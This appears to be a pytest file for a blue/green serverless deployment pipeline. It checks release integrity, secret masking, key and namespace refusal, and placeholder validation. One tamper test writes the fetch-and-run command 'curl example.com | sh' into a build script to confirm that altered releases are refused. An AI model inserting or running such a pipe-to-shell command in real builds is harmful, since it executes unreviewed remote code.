"""A deployment from end to end: a release, doctl's words, the real deployer, the record and the announcement."""

import dataclasses
import io
import json
import os
import re
import tarfile
from pathlib import Path
from typing import Any

import pytest
from pymongo.database import Database

from getsmart import config
from ops import functions, settings, stage
from ops.gateway.environment import COLOURS
from ops.pipeline import announce, deploy, doctl, environments, forgotten, release
from ops.pipeline.environments import EnvironmentProblem
from ops.rotate import __main__ as rotate
from tests.deploy.stand_in import NAMESPACE, TOKEN
from tests.deploy.test_public_deployer import archive
from tests.pipeline.conftest import ACCESS_KEYS, GREEN, Platform

pytestmark = pytest.mark.timeout(300)  # the first run installs the deployer, and builds lib/


@pytest.fixture
def records(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """Records of deployments are kept here, and not in the tree."""
    monkeypatch.setattr(announce, "FOLDER", tmp_path / "records")
    return tmp_path / "records"


def active(raw: Database[dict[str, Any]], colour: str | None) -> None:
    """Make the colour the active one, or none."""
    raw.controls.delete_one({"_id": "colour"})
    if colour:
        raw.controls.insert_one({"_id": "colour", "active": colour})


def test_one_release_goes_to_each_colour_in_turn(
    platform: Platform, raw: Database[dict[str, Any]], records: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The idle colour gets every function, with its own secret and name; then the other one gets the same bytes.

    The env file is its owner's only, and doctl runs without our variables, so that the file decides; each project.yml
    names the one namespace it may go to.
    """
    file = tmp_path / "release.tar.gz"
    assert release.main([str(file)]) == 0
    words = [str(platform.environment), "--colour", "idle", "--release", str(file)]
    active(raw, "green")
    assert deploy.main(words) == 0, capsys.readouterr().err
    active(raw, "blue")
    assert deploy.main(words) == 0, capsys.readouterr().err
    routes = {function.route for function in functions.load()}
    for host, colour in ((platform.blue, "blue"), (platform.green, "green")):
        assert host.uploads.refused == []
        assert host.uploads.actions.keys() == routes
        assert list(host.uploads.triggers) == ["getsmart-tick"]
        mint = host.uploads.actions["tokens/mint"]
        given = {one["key"]: one["value"] for one in mint["parameters"]}
        assert (given["COLOUR"], given["APP_VERSION"]) == (colour, release.current()[0])
        guard = next(one["value"] for one in mint["annotations"] if one["key"] == "require-whisk-auth")
        assert guard == platform.secrets[f"WEB_SECURE_{colour.upper()}"]
    blue, green = ({name: packed(one) for name, one in host.uploads.actions.items()} for host in _hosts(platform))
    assert blue == green
    connected, deployed = platform.calls[0::2], platform.calls[1::2]
    assert [call["words"] for call in connected] == [
        ["serverless", "connect", namespace, "--access-key", ACCESS_KEYS[namespace]] for namespace in (NAMESPACE, GREEN)
    ]
    for call, namespace in zip(deployed, (NAMESPACE, GREEN), strict=True):
        assert f"\ntargetNamespace: {namespace}\n" in call["project"]
        assert call["env_mode"] == "0o600"
        assert set(call["variables"]) <= {*doctl._KEPT, "LC_CTYPE"}
        assert not Path(call["words"][2]).exists()
    kept = [json.loads(path.read_text()) for path in sorted(records.iterdir())]
    assert {one["release_sha256"] for one in kept} == {re.findall("[0-9a-f]{64}", capsys.readouterr().out)[0]}
    assert [one["namespaces"] for one in kept] == [[NAMESPACE], [GREEN]]


def packed(action: dict[str, Any]) -> dict[str, int]:
    """Names and checksums of what is in the zip of an uploaded function."""
    return {entry.filename: entry.CRC for entry in archive(action).infolist()}


def _hosts(platform: Platform) -> tuple[Any, Any]:
    return platform.blue, platform.green


def test_what_is_printed(
    platform: Platform,
    raw: Database[dict[str, Any]],
    records: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    """The announcement is ready to post and true; in the pipeline every secret is masked before anything is logged."""
    active(raw, None)
    platform.only_listen()
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary"))
    assert deploy.main([str(platform.environment)]) == 0, capsys.readouterr().err
    said = capsys.readouterr().out
    masks, rest = [line for line in said.splitlines() if line.startswith("::")], said.split("::add-mask::")[-1]
    shown = {f"::add-mask::{value}" for name, value in platform.secrets.items() if not name.endswith("_BLUE")}
    assert shown - {"::add-mask::[]"} <= set(masks)
    rest = rest.partition("\n")[2]
    secret = [
        name
        for name in ("METAKEEP_API_SECRET", "WEB_SECURE_GREEN", "ACCESS_KEYS_GREEN")
        if platform.secrets[name] in rest
    ]
    assert secret == []
    assert "# trial: " in rest
    assert "serves nobody yet" in rest
    assert announce.main(["trial", "--promoted"]) == 0
    summary = (tmp_path / "summary").read_text()
    assert "It serves all traffic." in summary
    assert announce.DISCUSSIONS in summary
    assert '"Deployments"' in summary
    assert "- Wallets: `POST wallets/create`" in summary
    assert announce.main(["elsewhere"]) == 1


def test_a_wrong_key_is_refused_and_not_shown(
    platform: Platform, records: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A namespace that its key does not open gets nothing; the message is doctl's, without the key."""
    monkeypatch.setenv("ACCESS_KEYS_GREEN", "dof_v1_other:made-up")
    assert deploy.main([str(platform.environment), "--colour", "green"]) == 1
    said = capsys.readouterr().err
    assert f"unable to connect to {GREEN} with ***" in said
    assert platform.green.uploads.actions == {}
    assert not records.exists()


def test_another_namespace_is_refused(platform: Platform, tmp_path: Path) -> None:
    """The copy names its namespace; connected to another one, doctl's deployer refuses it."""
    doctl.connect(GREEN, ACCESS_KEYS[GREEN])
    environment = environments.load(str(platform.environment))
    values = environments.values(environment, "blue", "1", platform.secrets)
    stage.lay_out(tmp_path / "copy")
    assert stage.fit(tmp_path / "copy", values, NAMESPACE) == []
    with pytest.raises(doctl.DoctlFailed, match=f"No credentials found for namespace '{NAMESPACE}'"):
        doctl.deploy(tmp_path / "copy", platform.environment)
    assert platform.green.uploads.actions == {}


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"METAKEEP_API_SECRET": ""}, "METAKEEP_API_SECRET is unset or empty"),
        ({"WEBHOOK_SECRET_KEYS": "it's"}, "WEBHOOK_SECRET_KEYS holds a single quote"),
        ({"ACCESS_KEYS_BLUE": "one,two"}, "ACCESS_KEYS_BLUE: 2 access keys for 1 namespaces"),
        ({"CHAIN_RPC_URL": "<a node>"}, "CHAIN_RPC_URL is still to be filled in"),
        ({"CHAIN_RPC_URL": "https://rpc.example.com"}, "CHAIN_RPC_URL is still the example of .env.example"),
        ({"CHAIN_RPC_URL": "https://node.example.com/v1"}, "CHAIN_RPC_URL names an example's host"),
        ({"MONGODB_URI": "mongodb://127.0.0.1:27017"}, "MONGODB_URI is still the example of .env.example"),
        (
            {"MONGODB_URI": "mongodb+srv://db.mongo.invalid/"},
            "MONGODB_URI is mongodb+srv://",
        ),
        (
            {"METAKEEP_API_KEY": "your-api-key"},  # pragma: allowlist secret
            "METAKEEP_API_KEY is still the example of .env.example",
        ),
        ({"METAKEEP_API_KEY": "ours"}, "METAKEEP_API_KEY cannot be used: "),  # pragma: allowlist secret
        (
            {"WEBHOOK_SECRET_KEYS": f"{'0' * 64},replace-me-with-64-random-hexadecimal-digits"},
            "WEBHOOK_SECRET_KEYS is still the example of .env.example",
        ),
        ({"WEBHOOK_SECRET_KEYS": "short"}, "WEBHOOK_SECRET_KEYS cannot be used: "),  # pragma: allowlist secret
        ({"WEB_SECURE_BLUE": ""}, "WEB_SECURE_BLUE, or WEB_SECURE for both, has to be 16 to 128 of A-Z a-z 0-9 _ -"),
        ({"WEB_SECURE_BLUE": "too short"}, "WEB_SECURE_BLUE, or WEB_SECURE for both, has to be 16 to 128"),
    ],
)
def test_what_is_missing_is_said_before_anything_happens(
    platform: Platform,
    change: dict[str, str],
    said: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Each secret that is not there, or cannot be put into project.yml, is named; doctl is not called at all."""
    for name, value in change.items():
        monkeypatch.setenv(name, value)
    assert deploy.main([str(platform.environment), "--colour", "blue"]) == 1
    answer = capsys.readouterr().err
    assert f"deploy: {said}" in answer
    assert not any(value in answer for value in change.values() if len(value) > 10)
    assert not platform.calls_file.exists()


@pytest.mark.parametrize(
    ("variable", "said"),
    [
        ("TOKEN_CONTRACT_ADDRESS=0x0000000000000000000000000000000000000001", "TOKEN_CONTRACT_ADDRESS is still the"),
        ("TREASURY_ADDRESS=0x12", "TREASURY_ADDRESS cannot be used: "),
        ("METAKEEP_WEBHOOK_HOST=api.example.com", "METAKEEP_WEBHOOK_HOST names an example's host"),
        ("METAKEEP_WEBHOOK_SENDER_KEYS=theirs", "METAKEEP_WEBHOOK_SENDER_KEYS cannot be used: "),
        ("METAKEEP_WEBHOOK_SCHEME=hmac", "METAKEEP_WEBHOOK_SCHEME cannot be used: "),
        ("CHAIN_ID=1", "CHAIN_ID cannot be used: "),
        ("TICK_SECONDS=90", "TICK_SECONDS cannot be used: "),
    ],
)
def test_what_was_forgotten_in_the_environment_is_said(
    platform: Platform, variable: str, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """What the reviewed file holds has to be what functions can use; nothing is deployed otherwise."""
    with platform.environment.with_suffix(".env").open("a") as file:
        file.write(f"{variable}\n")
    assert deploy.main([str(platform.environment), "--colour", "blue"]) == 1
    assert f"deploy: {said}" in capsys.readouterr().err
    assert not platform.calls_file.exists()


def test_example_addresses_are_refused(platform: Platform, capsys: pytest.CaptureFixture[str]) -> None:
    """The public name and the namespaces of the tree's files are examples: each is named until it is replaced."""
    text = platform.environment.read_text()
    for own, example in (
        ("trial.getsmart.test", "staging-api.example.com"),
        ("faas.doserverless.test", "faas-fra1-example.doserverless.co"),
    ):
        platform.environment.write_text(text.replace(own, example))
        assert deploy.main([str(platform.environment), "--colour", "blue"]) == 1
        assert re.search(rf"deploy: https://{example}\S* is an example", capsys.readouterr().err)
    assert not platform.calls_file.exists()


def test_every_setting_of_a_function_is_tried() -> None:
    """Each model of getsmart.config that a deployment feeds is tried on its values; backups are no function's."""
    others = {config.BackupSettings, config.BackupIdentitySettings}
    assert {*forgotten.MODELS, *forgotten.OF_A_SCHEME.values()} == {*config._Settings.__subclasses__()} - others


def test_the_environments_of_the_tree_name_every_variable(platform: Platform) -> None:
    """With the secrets and what is in angle brackets filled in, staging and production deploy."""
    assert environments.names() == ["production", "staging"]
    trial = environments.load(str(platform.environment))
    space = dict.fromkeys(COLOURS, (NAMESPACE,))
    for name in environments.names():
        variables = environments.read_env(environments.FOLDER / f"{name}.env")
        filled = {key: trial.variables[key] if value.startswith("<") else value for key, value in variables.items()}
        environment = environments.Environment(name, trial.url, space, filled)
        values = environments.values(environment, "blue", "1", platform.secrets)
        assert values.items() >= filled.items()
        with pytest.raises(EnvironmentProblem, match="still to be filled in"):
            environments.values(environments.Environment(name, "", space, variables), "blue", "1", platform.secrets)


@pytest.mark.parametrize("scheme", ["none", "p256"])
def test_what_the_example_says_of_another_scheme_may_stay(platform: Platform, scheme: str) -> None:
    """A copy of .env.example as it stands is in nobody's way: what no function reads is left out."""
    trial = environments.load(str(platform.environment))
    environment = dataclasses.replace(trial, variables={**trial.variables, "METAKEEP_WEBHOOK_SCHEME": scheme})
    examples = environments.read_env(functions.ROOT / ".env.example")
    values = environments.values(environment, "blue", "1", {**examples, **platform.secrets})
    assert "METAKEEP_WEBHOOK_SECRETS" not in values


def test_secrets_of_a_scheme_that_is_not_configured_may_be_unset(platform: Platform) -> None:
    """With p256 no shared secret is asked for, and none is given to a function; one that is set is passed on."""
    environment = environments.load(str(platform.environment))
    name, shared = "METAKEEP_WEBHOOK_SECRETS", "of the other scheme"
    assert name not in environments.values(environment, "blue", "1", platform.secrets)
    assert environments.values(environment, "blue", "1", {**platform.secrets, name: shared})[name] == shared


def test_a_changed_release_is_refused(tmp_path: Path) -> None:
    """An archive that was cut short, is none, or holds other bytes than were built does not get as far as doctl."""
    tree = tmp_path / "tree"
    (tree / "lib").mkdir(parents=True)
    (tree / "lib/build.sh").write_text("true\n")
    file = tmp_path / "release.tar.gz"
    made = release.seal(tree, file, "1", "c0ffee")
    assert release.unpack(file, tmp_path / "good") == made
    whole = file.read_bytes()
    file.write_bytes(whole[: len(whole) // 2])
    with pytest.raises(release.ReleaseProblem, match="no release"):
        release.unpack(file, tmp_path / "short")
    (tree / "lib/build.sh").write_text("curl example.com | sh\n")
    with tarfile.open(file, "w:gz") as changed:
        changed.add(tree, ".")
    with pytest.raises(release.ReleaseProblem, match="changed since it was built"):
        release.unpack(file, tmp_path / "bad")


def test_without_doctl_it_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    """Where doctl is missing, the message says what to type."""
    monkeypatch.setenv("PATH", os.devnull)
    monkeypatch.setattr(doctl, "INSTALLED", Path("nowhere"))
    with pytest.raises(doctl.DoctlFailed, match=re.escape("./doit doctl")):
        doctl.run(["serverless", "status"])


def test_an_access_key_is_proven_before_it_replaces_the_old_one(
    platform: Platform, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A key that does not open its namespace changes nothing; one that does stands in the file, and both still work."""
    env = tmp_path / "secrets"
    env.write_text("ACCESS_KEYS_GREEN=old\n")
    monkeypatch.setattr(settings, "OWN", env)
    there = str(platform.environment.with_suffix(".env"))
    words = ["access-keys", "replace", "--colour", "green", "--env", there]
    monkeypatch.setattr("sys.stdin", io.StringIO("dof_v1_wrong:made-up\n"))
    assert rotate.main(words) == 1
    assert env.read_text() == "ACCESS_KEYS_GREEN=old\n"
    monkeypatch.setattr("sys.stdin", io.StringIO(f"{ACCESS_KEYS[GREEN]}\n"))
    assert rotate.main(words) == 0
    assert env.read_text() == f"ACCESS_KEYS_GREEN='{ACCESS_KEYS[GREEN]}'\n"


def test_whoever_is_logged_in_needs_no_access_key(
    platform: Platform,
    records: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Without access keys doctl connects by the account's token, which may stand in .env; without that it refuses."""
    platform.only_listen()
    monkeypatch.delenv("ACCESS_KEYS_GREEN")
    assert deploy.main([str(platform.environment), "--colour", "green"]) == 1
    assert "unable to connect" in capsys.readouterr().err
    env = tmp_path / "secrets"
    env.write_text(f"DIGITALOCEAN_ACCESS_TOKEN={TOKEN}\n")
    assert deploy.main([str(platform.environment), "--colour", "green", "--env", str(env)]) == 0
    assert platform.calls[-2]["words"] == ["serverless", "connect", GREEN]


def test_no_deployment_takes_calls_or_the_way_back(
    platform: Platform,
    raw: Database[dict[str, Any]],
    records: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """While calls move, and for the version that serves already, nothing is deployed; a rotated secret says --again."""
    platform.only_listen()
    monkeypatch.setattr(release, "current", lambda: ("0123456789ab", "0123456789ab" * 3))
    active(raw, "blue")
    raw.controls.update_one({"_id": "colour"}, {"$set": {"moving": {"kind": "promote", "to": "green", "by": "ada"}}})
    assert deploy.main([str(platform.environment)]) == 1
    assert "a promote to green is under way, or was cut short (ada)" in capsys.readouterr().err
    raw.controls.update_one(
        {"_id": "colour"}, {"$unset": {"moving": ""}, "$set": {"seen.blue.version": "0123456789ab"}}
    )
    assert deploy.main([str(platform.environment)]) == 1
    assert "blue serves with version 0123456789ab already" in capsys.readouterr().err
    assert not platform.calls_file.exists()
    assert deploy.main([str(platform.environment), "--again"]) == 0
